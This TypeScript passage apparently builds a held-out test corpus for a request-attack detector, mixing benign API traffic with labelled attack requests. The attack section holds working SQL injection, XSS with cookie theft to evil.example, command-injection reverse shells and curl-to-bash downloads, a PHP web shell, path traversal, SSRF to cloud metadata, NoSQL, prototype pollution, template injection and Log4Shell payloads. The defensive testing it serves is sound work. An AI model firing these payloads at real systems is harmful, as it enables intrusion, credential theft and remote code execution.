// GraphQL queries and mutations with variables (40; some as application/graphql and over GET)
for (let i = 0; i < 40; i++) {
  const g = nth(GQL_CLEAN, i);
  if (i % 10 === 9)
    addClean(
      'graphql',
      'GET',
      `/graphql?query=${enc('query Me { me { id name orders(first: 3) { id } } }')}&operationName=Me`,
      null,
      '',
    );
  else if (i % 10 === 4) addClean('graphql', 'POST', '/graphql', 'application/graphql', nth(GQL_CLEAN, 5).q);
  else addClean('graphql', 'POST', '/graphql', 'application/json', json({ query: g.q, variables: g.v() }));
}
// CMS editor HTML (`page.blocks[].html` is a rich field) (20)
for (let i = 0; i < 20; i++)
  addClean(
    'cms-html',
    i % 2 === 0 ? 'POST' : 'PUT',
    i % 2 === 0 ? '/api/cms/v3/pages' : `/api/cms/v3/pages/${int(1, 500)}`,
    'application/json',
    json({
      page: {
        title: nth(TITLES, i + 2),
        slug: `page-${i}`,
        blocks: [
          { type: 'html', html: nth(CMS_HTML, i) },
          { type: 'html', html: nth(CMS_HTML, i + 3) },
        ],
        meta: { description: nth(PROSE, i + 20), og_image: '/media/og/default.png' },
      },
    }),
  );
// support tickets, reviews, chat (prose fields, not excluded) (60)
for (let i = 0; i < 60; i++) {
  const r = i % 3;
  if (r === 0)
    addClean(
      'prose',
      'POST',
      '/api/support/v2/tickets',
      'application/json',
      json({
        subject: nth(PROSE, i).slice(0, 50),
        message: `${nth(PROSE, i)}\n\n${nth(PROSE, i + 17)}`,
        priority: pick(['low', 'normal', 'high']),
        requester: { name: nth(NAMES, i), email: `t${i}@example.com` },
      }),
    );
  else if (r === 1)
    addClean(
      'prose',
      'POST',
      `/api/products/${pick(PRODUCTS).sku}/reviews`,
      'application/json',
      json({
        rating: int(1, 5),
        title: nth(TITLES, i),
        text: nth(PROSE, i + 38),
        author: nth(NAMES, i + 4),
        verified: true,
      }),
    );
  else
    addClean(
      'prose',
      'POST',
      `/api/chat/channels/${int(1, 50)}/messages`,
      'application/json',
      json({
        text: nth(PROSE, i + 5),
        thread_ts: rnd() < 0.5 ? null : `${1767225600 + int(0, 9999)}.000${int(100, 999)}`,
      }),
    );
}
// searches and filters (25)
for (let i = 0; i < 25; i++) addClean('search', 'GET', nth(SEARCHES, i), null, '');
// REST reads with realistic headers (15)
for (let i = 0; i < 15; i++) {
  const r = i % 5;
  const path = [
    `/api/v2/orders/${int(1e4, 9e4)}?expand=items,shipping_address`,
    `/api/v1/users/${int(1, 9999)}/avatar?size=128`,
    `/api/v1/products?page=${int(1, 30)}&per_page=50&sort=-rating`,
    `/api/wiki/pages/faq?rev=${int(1, 90)}`,
    `/api/v1/me/notifications?since=2026-11-${10 + (i % 18)}T00:00:00Z&unread=true`,
  ][r] as string;
  addClean(
    'rest-read',
    r === 1 ? 'HEAD' : 'GET',
    path,
    null,
    '',
    r === 3 ? { 'if-none-match': `W/"${int(1e5, 9e5)}-abc"` } : {},
  );
}
// encoded values (15)
for (let i = 0; i < 15; i++) {
  const r = i % 5;
  if (r === 0)
    addClean(
      'encoded',
      'POST',
      '/api/v1/me/avatar',
      'application/json',
      json({
        image: `data:image/png;base64,${Buffer.from(Array.from({ length: 120 }, () => int(0, 255))).toString('base64')}`,
      }),
    );
  else if (r === 1)
    addClean(
      'encoded',
      'PUT',
      '/api/v1/me/dashboard',
      'application/json',
      json({
        layout: json({
          widgets: [
            { id: 'orders', w: 6 },
            { id: 'union-news', w: 6 },
          ],
          filters: { q: 'select committee' },
        }),
      }),
    );
  else if (r === 2)
    addClean(
      'encoded',
      'POST',
      '/api/auth/oauth/authorize',
      'application/json',
      json({
        redirect_uri: enc('https://app.example.com/callback?next=/orders?status=open&sort=-date'),
        state: b64(json({ nonce: int(1e6, 9e6), from: '/cart' })),
      }),
    );
  else if (r === 3)
    addClean(
      'encoded',
      'POST',
      '/api/v1/attachments',
      'application/json',
      json({
        filename: `Quote ${int(100, 999)}.txt`,
        content_base64: b64(
          `Quote for ${nth(NAMES, i)}:\n- 2x Kettle\n- 1x Select desk lamp\nTotal: EUR ${int(50, 500)}.00\n`,
        ),
      }),
    );
  else
    addClean(
      'encoded',
      'POST',
      '/api/v1/exports',
      'application/json',
      json({
        query: enc('status:open AND created:>2026-01-01'),
        format: 'csv',
        cursor: b64(`{"after":"ord_${int(1e5, 9e5)}"}`),
      }),
    );
}
// NDJSON application logs (10)
const LOG_LINES = [
  { level: 'info', msg: 'user signed in', path: '/account/settings', ms: 12 },
  { level: 'warn', msg: 'slow query: select on orders took 2.3 s', table: 'orders' },
  { level: 'error', msg: 'upstream timeout calling payments', upstream: 'payments.internal:8443' },
  { level: 'info', msg: 'GET /api/v1/products?page=2 200 38ms', ua: 'okhttp/4.12.0' },
  { level: 'debug', msg: 'cache miss for key product:drop-leaf-table', hit_ratio: 0.93 },
  { level: 'info', msg: 'job exec finished: nightly-union-report', exit: 0 },
];
for (let i = 0; i < 10; i++) {
  const lines = Array.from({ length: int(2, 5) }, (_, k) =>
    json({
      ts: `2026-11-28T0${int(0, 9)}:${int(10, 59)}:${int(10, 59)}Z`,
      service: 'shop-api',
      ...nth(LOG_LINES, i + k),
    }),
  );
  addClean('ndjson', 'POST', '/api/logs/ingest', 'application/x-ndjson', `${lines.join('\n')}\n`);
}
// form logins and newsletter sign-ups (15)
const PASSWORDS = [
  'Correct-Horse-Battery-Staple',
  'S3cure!Pass#2026',
  'p@ssw0rd&more',
  'hunter2-but-longer',
  'Zürich2026!',
  'MyD0g$Name',
];
for (let i = 0; i < 15; i++) {
  if (i % 3 === 2)
    addClean(
      'form',
      'POST',
      '/newsletter/subscribe',
      'application/x-www-form-urlencoded',
      `email=${enc(`reader${i}@example.com`)}&name=${enc(nth(NAMES, i))}&topics=${enc('union-news,select-deals')}`,
    );
  else
    addClean(
      'form',
      'POST',
      '/login',
      'application/x-www-form-urlencoded',
      `username=${enc(`user${i}@example.com`)}&password=${enc(nth(PASSWORDS, i))}&remember_me=on&return_to=${enc('/account/orders?tab=open')}`,
    );
}
// webhooks from payment / shipping providers (10)
for (let i = 0; i < 10; i++)
  addClean(
    'webhook',
    'POST',
    `/api/webhooks/${i % 2 === 0 ? 'stripe' : 'carrier'}`,
    'application/json',
    i % 2 === 0
      ? json({
          id: `evt_${int(1e8, 9e8)}`,
          type: pick(['payment_intent.succeeded', 'charge.refunded', 'invoice.paid']),
          data: {
            object: {
              amount: int(100, 99999),
              currency: 'eur',
              description: `Order #${int(1000, 9999)} — ${pick(PRODUCTS).name}`,
              metadata: { order_id: String(int(1e4, 9e4)) },
            },
          },
          livemode: false,
        })
      : json({
          tracking_number: `1Z${int(1e8, 9e8)}`,
          status: pick(['in_transit', 'delivered', 'exception']),
          events: [
            {
              at: '2026-11-28T08:12:00Z',
              location: nth(ADDRESSES, i).city,
              description: pick([
                'Left at front door',
                'Delivered to neighbour (no. 14)',
                'Select a new delivery date online',
                'Drop-off at parcel locker',
              ]),
            },
          ],
        }),
  );
// calendar / tasks (15)
const TASKS = [
  'Sleep study @ 9pm — bring ID',
  'Drop off kids; select birthday gifts',
  'Union meeting re: contract (room 3.12)',
  'Exec offsite prep: agenda & slides',
  'Call insurance; ask where the claim form is',
  'Update table plan for the wedding',
  'Renew passport (photo booth on Union St.)',
  'Dentist 08:30 — no food after midnight',
  'Order more coffee; the good one, not the cheap one',
  "Grandma's 90th: book the table for 12",
];
for (let i = 0; i < 15; i++)
  addClean(
    'tasks',
    i % 3 === 0 ? 'PATCH' : 'POST',
    i % 3 === 0 ? `/api/tasks/${int(1, 9999)}` : '/api/tasks',
    'application/json',
    json({
      title: nth(TASKS, i),
      due: `2026-12-${10 + (i % 19)}T${10 + (i % 9)}:00:00+01:00`,
      done: i % 3 === 0,
      list: pick(['home', 'work']),
    }),
  );

// ---------------------------------------------------------------------------------------------------- attacks

const attacks: CorpusRequest[] = [];
function addAttack(
  family: string,
  technique: string,
  method: string,
  path: string,
  ct: string | null,
  body: string,
  extra: Record<string, string> = {},
): void {
  attacks.push({
    id: `x${attacks.length + 1}`,
    kind: 'attack',
    family,
    technique,
    method,
    path,
    headers: headers(ct, extra),
    body,
  });
}
const J = 'application/json';
const GQL_Q = 'query Find($term: String!) { find(term: $term, first: 5) { id name } }';

// SQL injection
const SQLI = [
  "admin' --",
  "a@b.c' OR '1'='1' -- ",
  "x') OR ('a'='a",
  '(CASE WHEN (SELECT ASCII(SUBSTRING(password,1,1)) FROM users LIMIT 1)>64 THEN name ELSE id END)',
  '1;SELECT pg_sleep(10)',
  "1' AND updatexml(1,concat(0x7e,(SELECT @@version)),1)-- -",
  '3) UNION SELECT 1,2,3#',
  "' || (SELECT CHR(65)||CHR(66)) || '",
  "1' waitfor delay '0:0:10'--",
  "' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects))--",
  "admin'/**/OR/**/1=1#",
  '-1 UNION/**/SELECT/**/1,group_concat(username,0x3a,password),3/**/FROM/**/users',
  '1 AND (SELECT 5361 FROM(SELECT COUNT(*),CONCAT(0x71,(SELECT (ELT(1=1,1))),0x71,FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a)',
  "';exec master..xp_cmdshell 'ping 10.10.1.2'--",
  "x' UNION SELECT token, null FROM api_keys--",
];
SQLI.forEach((p, i) => {
  const t = i % 5;
  if (t === 0) addAttack('sql', 'json', 'POST', '/api/auth/login', J, json({ username: p, password: 'x' }));
  else if (t === 1)
    addAttack(
      'sql',
      'nested',
      'POST',
      '/api/v2/orders/search',
      J,
      json({ filter: { where: { customer: { email: p } } }, page: 1 }),
    );
  else if (t === 2)
    addAttack(
      'sql',
      'prose-field',
      'POST',
      '/api/support/v2/tickets',
      J,
      json({ subject: 'order missing', message: `Hi, my order ${p} never arrived, please check.` }),
    );
  else if (t === 3)
    addAttack(
      'sql',
      'graphql-variables',
      'POST',
      '/graphql',
      J,
      json({ query: GQL_Q, variables: { term: p } }),
    );
  else
    addAttack('sql', 'array', 'PUT', '/api/v1/products/bulk', J, json({ ids: [1, 2, p], fields: ['price'] }));
});
addAttack(
  'sql',
  'query',
  'GET',
  `/api/products?id=${enc('1 AND 1=2 UNION SELECT table_name,null FROM information_schema.tables--')}`,
  null,
  '',
);
addAttack(
  'sql',
  'query',
  'GET',
  `/api/users?sort=${enc('name;(SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END)--')}`,
  null,
  '',
);
addAttack('sql', 'query', 'GET', `/api/items?category=${enc("books' AND '1'='1")}`, null, '');
addAttack('sql', 'query', 'GET', `/api/items?order=${enc('id desc,(select sleep(3))')}`, null, '');
addAttack('sql', 'header', 'GET', '/api/v1/products', null, '', {
  'user-agent': "Mozilla/5.0' AND (SELECT 1 FROM (SELECT SLEEP(5))a)-- -",
});
addAttack('sql', 'header', 'GET', '/api/v1/me', null, '', { 'x-forwarded-for': "127.0.0.1' OR 1=1--" });
addAttack('sql', 'header', 'GET', '/api/v1/products', null, '', {
  referer: "https://shop.example.com/?q=1' UNION SELECT password FROM users--",
});
addAttack('sql', 'cookie', 'GET', '/api/v1/cart', null, '', {
  cookie: "cart_id=abc'; DROP TABLE carts;--; theme=dark",
});
addAttack(
  'sql',
  'base64',
  'POST',
  '/api/v1/orders/page',
  J,
  json({ cursor: b64(json({ last_id: "5' OR 1=1--" })) }),
);
addAttack(
  'sql',
  'double-url',
  'POST',
  '/api/v1/search',
  J,
  json({ q: enc(enc("' UNION SELECT null,username||':'||password FROM users--")) }),
);
addAttack(
  'sql',
  'json-in-string',
  'POST',
  '/api/v1/reports',
  J,
  json({ meta: json({ orderBy: 'id; DROP TABLE orders' }) }),
);
addAttack(
  'sql',
  'graphql-literal',
  'POST',
  '/graphql',
  J,
  json({ query: `{ user(name: ${json("admin' OR 1=1--")}) { id } }` }),
);
addAttack(
  'sql',
  'form',
  'POST',
  '/login',
  'application/x-www-form-urlencoded',
  `username=${enc("admin'#")}&password=x`,
);
addAttack(
  'sql',
  'prose-field',
  'POST',
  '/api/products/KT-100-BLK/reviews',
  J,
  json({ rating: 5, text: "Great product'; UPDATE users SET role='admin' WHERE email='me@x.com';--" }),
);
addAttack(
  'sql',
  'prose-field',
  'POST',
  '/api/chat/channels/4/messages',
  J,
  json({ text: 'nice post" or sleep(5)#' }),
);
addAttack(
  'sql',
  'key',
  'POST',
  '/api/v1/records',
  J,
  json({ fields: { "name) VALUES ('x'); DROP TABLE users;--": '1' } }),
);
addAttack('sql', 'path', 'GET', `/api/users/${enc("1' UNION SELECT password FROM users--")}`, null, '');
addAttack(
  'sql',
  'json-patch',
  'PATCH',
  '/api/v1/users/7',
  'application/json-patch+json',
  json([{ op: 'replace', path: '/nickname', value: "x' OR 1=1; --" }]),
);
addAttack(
  'sql',
  'unicode-escape',
  'POST',
  '/api/v1/search',
  J,
  '{"q":"\\u0027 UNION SELECT password FROM users\\u002d\\u002d"}',
);

// XSS
const XSS = [
  '<script>alert(document.domain)</script>',
  '<img src=x onerror=alert(1)>',
  'Nice article! <script src=https://evil.example/k.js></script>',
  "\"><svg onload=fetch('//evil.example?c='+document.cookie)>",
  '<iframe src="javascript:alert(1)"></iframe>',
  "<body onload=alert('xss')>",
  '<a href="jav&#x09;ascript:alert(1)">click</a>',
  '<details open ontoggle=confirm(1)>',
  '<ScRiPt>prompt(1)</sCrIpT>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<input autofocus onfocus=alert(1)>',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
  '<img src=1 onerror="this.src=\'https://evil.example/?\'+document.cookie">',
  "<style>@import'//evil.example/x.css';</style>",
  '<div style="background:url(javascript:alert(1))">',
  '<form action=javascript:alert(1)><input type=submit>',
  '<video><source onerror="alert(1)">',
  'Thanks for the help :) <img src=x onerror=alert(document.cookie)>',
];
XSS.forEach((p, i) => {
  const t = i % 4;
  if (t === 0)
    addAttack('xss', 'prose-field', 'PATCH', '/api/v1/me', J, json({ display_name: 'Ana', bio: p }));
  else if (t === 1)
    addAttack(
      'xss',
      'prose-field',
      'POST',
      `/api/products/TEA-OOLONG/reviews`,
      J,
      json({ rating: 4, title: 'ok', text: p }),
    );
  else if (t === 2)
    addAttack(
      'xss',
      'graphql-variables',
      'POST',
      '/graphql',
      J,
      json({
        query: 'mutation U($input: ProfileInput!) { updateProfile(input: $input) { id } }',
        variables: { input: { displayName: p } },
      }),
    );
  else
    addAttack(
      'xss',
      'nested',
      'POST',
      '/api/v2/orders',
      J,
      json({ customer: { name: p, email: 'a@example.com' }, items: [{ sku: 'KT-100-BLK', quantity: 1 }] }),
    );
});
addAttack(
  'xss',
  'url-field',
  'PATCH',
  '/api/v1/me',
  J,
  json({ website: 'javascript:alert(document.cookie)' }),
);
addAttack('xss', 'query', 'GET', `/api/search?q=${enc('<script>alert(1)</script>')}`, null, '');
addAttack('xss', 'double-url', 'GET', `/api/search?q=${enc(enc('<img src=x onerror=alert(1)>'))}`, null, '');
addAttack('xss', 'header', 'GET', '/api/v1/products', null, '', {
  referer: 'https://shop.example.com/"><script>alert(1)</script>',
});
addAttack('xss', 'header', 'GET', '/api/v1/products', null, '', {
  'user-agent': '<img src=x onerror=alert(1)>',
});
addAttack('xss', 'base64', 'POST', '/api/v1/widgets', J, json({ widget: b64('<script>alert(1)</script>') }));
addAttack(
  'xss',
  'json-in-string',
  'PUT',
  '/api/v1/me/dashboard',
  J,
  json({ layout: json({ footer: '<svg/onload=alert(1)>' }) }),
);
addAttack(
  'xss',
  'json-patch',
  'PATCH',
  '/api/v1/users/9',
  'application/json-patch+json',
  json([{ op: 'replace', path: '/bio', value: '<img src=x onerror=alert(1)>' }]),
);
addAttack(
  'xss',
  'unicode-escape',
  'POST',
  '/api/chat/channels/3/messages',
  J,
  '{"text":"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"}',
);
addAttack(
  'xss',
  'graphql-literal',
  'POST',
  '/graphql',
  J,
  json({ query: `mutation { postMessage(channel: "C1", text: ${json('<svg onload=alert(1)>')}) { id } }` }),
);
addAttack(
  'xss',
  'form',
  'POST',
  '/newsletter/subscribe',
  'application/x-www-form-urlencoded',
  `email=a%40b.c&name=${enc('<script>alert(1)</script>')}`,
);
addAttack(
  'xss',
  'double-url',
  'POST',
  '/api/v1/search',
  J,
  json({ next: enc(enc('"><script>alert(1)</script>')) }),
);

// command injection
const RCE = [
  '; curl -s http://evil.example/x | bash',
  '$(id)',
  '`cat /etc/passwd`',
  '| nc evil.example 4444 -e /bin/bash',
  '; python3 -c \'import socket,subprocess,os;s=socket.socket();s.connect(("10.0.0.1",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])\'',
  '127.0.0.1; ls -la /',
  '&& powershell -enc SQBFAFgA',
  '; wget -qO- http://evil.example/m.sh | sh',
  'file.txt; rm -rf /tmp/*',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal `${…}` (attack payload)
  '${IFS}cat${IFS}/etc/passwd',
  "; /bin/bash -c 'bash -i >& /dev/tcp/1.2.3.4/9001 0>&1'",
  "; perl -e 'print `id`'",
  '$(sleep 10)',
  '; chmod +x /tmp/x && /tmp/x',
  '& cmd.exe /c whoami',
  '& ping -n 10 127.0.0.1 &',
  'report.pdf; id',
  'example.com && cat /etc/passwd',
];
RCE.forEach((p, i) => {
  const t = i % 4;
  if (t === 0) addAttack('command', 'json', 'POST', '/api/tools/ping', J, json({ host: p, count: 3 }));
  else if (t === 1)
    addAttack(
      'command',
      'nested',
      'POST',
      '/api/v1/exports',
      J,
      json({ options: { filename: p, format: 'csv' } }),
    );
  else if (t === 2)
    addAttack(
      'command',
      'graphql-variables',
      'POST',
      '/graphql',
      J,
      json({ query: GQL_Q, variables: { term: p } }),
    );
  else addAttack('command', 'array', 'POST', '/api/v1/convert', J, json({ files: ['a.png', p], to: 'pdf' }));
});
addAttack('command', 'query', 'GET', `/api/tools/ping?host=${enc('8.8.8.8;cat /etc/passwd')}`, null, '');
addAttack('command', 'query', 'GET', `/api/convert?file=${enc('a.png|id')}`, null, '');
addAttack('command', 'header', 'GET', '/cgi-bin/status', null, '', {
  'user-agent': '() { :; }; /bin/bash -c "cat /etc/passwd"',
});
addAttack(
  'command',
  'base64',
  'POST',
  '/api/v1/jobs',
  J,
  json({ script: b64('curl http://evil.example/a.sh | sh') }),
);
addAttack('command', 'double-url', 'POST', '/api/v1/jobs', J, json({ arg: enc(enc('; cat /etc/shadow')) }));
addAttack(
  'command',
  'json-in-string',
  'POST',
  '/api/v1/jobs',
  J,
  json({ spec: json({ cmd: 'tar -xf x.tgz; nc -e /bin/sh 10.0.0.9 9001' }) }),
);
addAttack(
  'command',
  'php',
  'POST',
  '/api/v1/attachments',
  J,
  json({ filename: 'x.php', content: "<?php system($_GET['c']); ?>" }),
);
addAttack(
  'command',
  'prose-field',
  'POST',
  '/api/support/v2/tickets',
  J,
  json({ subject: 'bug', message: 'my hostname is web01; curl http://evil.example/s.sh | sh' }),
);

// path traversal / LFI
addAttack('path-traversal', 'query', 'GET', '/api/files?file=../../../../etc/passwd', null, '');
addAttack('path-traversal', 'query', 'GET', '/api/pages?page=....//....//etc/hosts', null, '');
addAttack(
  'path-traversal',
  'query',
  'GET',
  '/api/render?template=%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fshadow',
  null,
  '',
);
addAttack(
  'path-traversal',
  'double-url',
  'GET',
  '/api/download?path=..%252f..%252f..%252fetc%252fpasswd',
  null,
  '',
);
addAttack('path-traversal', 'query', 'GET', '/api/view?include=/proc/self/environ', null, '');
addAttack(
  'path-traversal',
  'query',
  'GET',
  `/api/view?doc=${enc('php://filter/convert.base64-encode/resource=index.php')}`,
  null,
  '',
);
addAttack(
  'path-traversal',
  'query',
  'GET',
  `/api/i18n?lang=${enc('../../../../windows/system32/drivers/etc/hosts')}`,
  null,
  '',
);
addAttack('path-traversal', 'json', 'PATCH', '/api/v1/me', J, json({ avatar: '../../../../../etc/passwd' }));
addAttack(
  'path-traversal',
  'nested',
  'POST',
  '/api/v1/messages',
  J,
  json({ attachment: { path: '/etc/shadow', name: 'x' } }),
);
addAttack('path-traversal', 'json', 'POST', '/api/v1/render', J, json({ template: '..\\..\\..\\boot.ini' }));
addAttack(
  'path-traversal',
  'json',
  'POST',
  '/api/v1/import',
  J,
  json({ source: 'file:///proc/self/cmdline' }),
);
addAttack(
  'path-traversal',
  'base64',
  'POST',
  '/api/v1/files/read',
  J,
  json({ f: b64('../../../etc/passwd') }),
);
addAttack(
  'path-traversal',
  'json',
  'POST',
  '/api/v1/exports',
  J,
  json({ export_path: '/var/www/../../etc/passwd%00.png' }),
);
addAttack('path-traversal', 'path', 'GET', '/api/files/..%2f..%2f..%2fetc%2fpasswd', null, '');
addAttack(
  'path-traversal',
  'graphql-variables',
  'POST',
  '/graphql',
  J,
  json({ query: GQL_Q, variables: { term: '../../../root/.ssh/id_rsa' } }),
);
addAttack(
  'path-traversal',
  'json',
  'POST',
  '/api/v1/render',
  J,
  json({ file: '..\\..\\..\\..\\Windows\\win.ini' }),
);
addAttack(
  'path-traversal',
  'json-in-string',
  'POST',
  '/api/v1/render',
  J,
  json({ opts: json({ partial: '../../../../etc/passwd' }) }),
);
addAttack(
  'path-traversal',
  'double-url',
  'POST',
  '/api/v1/render',
  J,
  json({ file: enc(enc('../../../etc/passwd')) }),
);

// SSRF
const SSRF_URLS = [
  'http://169.254.169.254/latest/meta-data/',
  'http://[fd00:ec2::254]/latest/meta-data/',
  'http://metadata.google.internal/computeMetadata/v1/?recursive=true',
  'http://127.1:8080/admin',
  'http://0177.0.0.1/',
  'gopher://localhost:6379/_FLUSHALL',
  'dict://127.0.0.1:11211/stats',
  'file:///etc/passwd',
  'http://localhost:2375/containers/json',
  'http://100.100.100.200/latest/meta-data/',
  'http://[::ffff:127.0.0.1]:8500/v1/agent/self',
  'http://2852039166/',
  'ldap://127.0.0.1:389/',
  'http://0.0.0.0:6379/',
];
SSRF_URLS.forEach((u, i) => {
  const t = i % 3;
  if (t === 0)
    addAttack('ssrf', 'json', 'POST', '/api/v1/webhooks', J, json({ url: u, events: ['order.created'] }));
  else if (t === 1)
    addAttack('ssrf', 'nested', 'PATCH', '/api/v1/me', J, json({ profile: { avatar_url: u } }));
  else
    addAttack(
      'ssrf',
      'graphql-variables',
      'POST',
      '/graphql',
      J,
      json({ query: 'mutation I($url: URL!) { importFeed(url: $url) { id } }', variables: { url: u } }),
    );
});
addAttack(
  'ssrf',
  'query',
  'GET',
  `/api/v1/preview?url=${enc('http://169.254.169.254/latest/user-data')}`,
  null,
  '',
);
addAttack('ssrf', 'query', 'GET', '/api/v1/fetch?next=http://127.0.0.1:22/', null, '');
addAttack(
  'ssrf',
  'base64',
  'POST',
  '/api/v1/images',
  J,
  json({ src: b64('http://169.254.169.254/latest/meta-data/iam/') }),
);
addAttack(
  'ssrf',
  'double-url',
  'POST',
  '/api/v1/images',
  J,
  json({ next: enc(enc('http://127.0.0.1:9200/_cat/indices')) }),
);

// NoSQL
addAttack(
  'nosql',
  'json',
  'POST',
  '/api/auth/login',
  J,
  json({ username: { $ne: null }, password: { $ne: null } }),
);
addAttack(
  'nosql',
  'json',
  'POST',
  '/api/auth/login',
  J,
  json({ email: 'admin@example.com', password: { $regex: '^a' } }),
);
addAttack(
  'nosql',
  'json',
  'POST',
  '/api/v1/users/find',
  J,
  json({ $where: 'function(){return this.role=="admin"}' }),
);
addAttack(
  'nosql',
  'nested',
  'POST',
  '/api/v1/users/find',
  J,
  json({ filter: { age: { $gt: 0 }, $or: [{ role: 'admin' }, { a: 1 }] } }),
);
addAttack('nosql', 'query', 'GET', '/api/users?username[$ne]=x&password[$ne]=x', null, '');
addAttack('nosql', 'query', 'GET', '/api/login?user=admin&pass[$regex]=.*', null, '');
addAttack('nosql', 'query', 'GET', `/api/items?filter[$where]=${enc('sleep(1000)')}`, null, '');
addAttack(
  'nosql',
  'nested',
  'POST',
  '/api/v1/search',
  J,
  json({ q: { $expr: { $function: { body: 'function(){sleep(5000)}', args: [], lang: 'js' } } } }),
);
addAttack('nosql', 'json', 'POST', '/api/v1/items/find', J, json({ id: { $nin: [0] } }));
addAttack(
  'nosql',
  'json-in-string',
  'POST',
  '/api/v1/items/find',
  J,
  json({ where: json({ token: { $exists: true } }) }),
);
addAttack(
  'nosql',
  'base64',
  'POST',
  '/api/v1/items/page',
  J,
  json({ cursor: b64(json({ _id: { $gt: '' } })) }),
);
addAttack(
  'nosql',
  'graphql-variables',
  'POST',
  '/graphql',
  J,
  json({
    query: 'query U($filter: JSON) { users(filter: $filter) { id } }',
    variables: { filter: { password: { $ne: '' } } },
  }),
);
addAttack('nosql', 'nested', 'POST', '/api/v1/users/find', J, json({ user: { name: 'admin', $or: [{}] } }));
addAttack(
  'nosql',
  'unicode-escape',
  'POST',
  '/api/auth/login',
  J,
  '{"username":"admin","password":{"\\u0024ne":"x"}}',
);
addAttack('nosql', 'json', 'POST', '/api/v1/search', J, json({ $where: '1==1', search: 'x' }));
addAttack('nosql', 'query', 'GET', '/api/v1/products?tags[$elemMatch][$gt]=a', null, '');
addAttack(
  'nosql',
  'form',
  'POST',
  '/login',
  'application/x-www-form-urlencoded',
  'username=admin&password%5B%24ne%5D=1',
);

// prototype pollution
addAttack('prototype-pollution', 'json', 'POST', '/api/v1/me/settings', J, '{"__proto__":{"admin":true}}');
addAttack(
  'prototype-pollution',
  'json',
  'POST',
  '/api/v1/me/settings',
  J,
  '{"constructor":{"prototype":{"isAdmin":true}}}',
);
addAttack(
  'prototype-pollution',
  'nested',
  'PUT',
  '/api/v1/me/settings',
  J,
  '{"settings":{"theme":"dark","__proto__":{"polluted":1}}}',
);
addAttack('prototype-pollution', 'query', 'GET', '/api/v1/items?__proto__[admin]=true', null, '');
addAttack(
  'prototype-pollution',
  'query',
  'GET',
  '/api/v1/items?constructor[prototype][role]=admin',
  null,
  '',
);
addAttack('prototype-pollution', 'query', 'GET', '/api/v1/items?a[__proto__][b]=1', null, '');
addAttack(
  'prototype-pollution',
  'json-patch',
  'PATCH',
  '/api/v1/me',
  'application/json-patch+json',
  json([{ op: 'add', path: '/__proto__/isAdmin', value: true }]),
);
addAttack(
  'prototype-pollution',
  'json-in-string',
  'POST',
  '/api/v1/me/settings',
  J,
  json({ prefs: '{"__proto__":{"x":1}}' }),
);
addAttack(
  'prototype-pollution',
  'base64',
  'POST',
  '/api/v1/me/settings',
  J,
  json({ blob: b64('{"constructor":{"prototype":{"role":"admin"}}}') }),
);
addAttack(
  'prototype-pollution',
  'unicode-escape',
  'POST',
  '/api/v1/me/settings',
  J,
  '{"\\u005f_proto__":{"isAdmin":true}}',
);
addAttack(
  'prototype-pollution',
  'graphql-variables',
  'POST',
  '/graphql',
  J,
  '{"query":"mutation S($input: JSON!) { save(input: $input) { ok } }","variables":{"input":{"__proto__":{"role":"admin"}}}}',
);
addAttack(
  'prototype-pollution',
  'merge-patch',
  'PATCH',
  '/api/v1/me',
  'application/merge-patch+json',
  '{"__proto__":{"toString":"x"}}',
);

// server-side template injection
const SSTI = [
  '{{7*7}}',
  "{{''.__class__.__mro__[1].__subclasses__()}}",
  "*{T(java.lang.Runtime).getRuntime().exec('id')}",
  "#set($x='')$x.class.forName('java.lang.Runtime')",
  '{php}echo `id`;{/php}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal `${…}` (attack payload)
  '${"freemarker.template.utility.Execute"?new()("id")}',
  "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal `${…}` (attack payload)
  '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
  '{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen("id").read() }}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal `${…}` (attack payload)
  '${{7*7}}',
];
SSTI.forEach((p, i) => {
  if (i % 2 === 0)
    addAttack(
      'template',
      'prose-field',
      'POST',
      '/api/support/v2/tickets',
      J,
      json({ subject: 'hi', message: `Hello ${p}` }),
    );
  else
    addAttack(
      'template',
      'nested',
      'POST',
      '/api/v1/emails/preview',
      J,
      json({ template: { subject: p, locale: 'en' } }),
    );
});

// Log4Shell
addAttack('log4shell', 'header', 'GET', '/api/v1/products', null, '', {
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal `${…}` (attack payload)
  'user-agent': '${jndi:ldap://evil.example:1389/Exploit}',
});
addAttack('log4shell', 'header', 'GET', '/api/v1/products', null, '', {
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal `${…}` (attack payload)
  'x-api-version': '${jndi:ldap://evil.example/a}',
});
addAttack('log4shell', 'header', 'GET', '/api/v1/products', null, '', {
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal `${…}` (attack payload)
  referer: '${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil.example/a}',
});
addAttack(
  'log4shell',
  'json',
  'POST',
  '/api/support/v2/tickets',
  J,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal `${…}` (attack payload)
  json({ subject: '${jndi:rmi://evil.example/x}', message: 'hello' }),
);
addAttack(
  'log4shell',
  'nested',
  'POST',
  '/api/v2/orders',
  J,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal `${…}` (attack payload)
  json({ customer: { name: '${${lower:j}${lower:n}${lower:d}i:dns://evil.example/q}' } }),
);
addAttack(
  'log4shell',
  'base64',
  'POST',
  '/api/v1/jobs',
  J,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal `${…}` (attack payload)
  json({ payload: b64('${jndi:ldap://evil.example/b64}') }),
);

/** Both held-out corpora, as written to disk. */
